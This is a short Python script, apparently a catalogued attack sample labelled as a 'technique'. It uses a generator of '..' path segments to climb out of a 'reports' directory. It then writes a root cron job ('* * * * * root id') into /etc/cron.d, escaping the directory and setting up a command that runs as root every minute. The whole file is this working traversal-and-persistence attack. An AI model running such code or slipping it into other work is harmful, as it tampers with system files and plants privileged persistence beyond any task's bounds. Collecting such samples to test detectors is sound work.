# technique: generator yields path segments per round, joined after pathlib.Path('reports') -> Path.write_text lands in /etc/cron.d (write outside)
import pathlib

pathlib.Path('reports').mkdir(exist_ok=True)

def segments():
    for _ in range(8):
        yield '..'
    yield 'etc/cron.d'
    yield 'rt8'

target = pathlib.Path('reports')
for s in segments():
    target = target / s
target.write_text('* * * * * root id\n')
